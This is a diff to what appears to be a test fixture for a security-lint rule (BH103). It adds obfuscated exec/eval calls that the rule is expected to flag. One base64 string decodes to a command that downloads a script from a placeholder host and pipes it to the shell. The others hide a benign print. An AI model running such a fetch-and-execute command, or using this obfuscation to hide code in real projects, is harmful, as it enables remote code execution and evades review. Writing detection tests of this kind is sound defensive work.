@@ -26,3 +26,7 @@ def fetch_name():
 
 exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL3Auc2ggfCBzaCIpCg=="))  # expect: BH103
 vars(__builtins__)["ev" + "al"](bytes.fromhex("7072696e742831293b").decode())  # expect: BH103
+
+
+def _wrapped(command):
+    command.run(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])  # expect: BH103
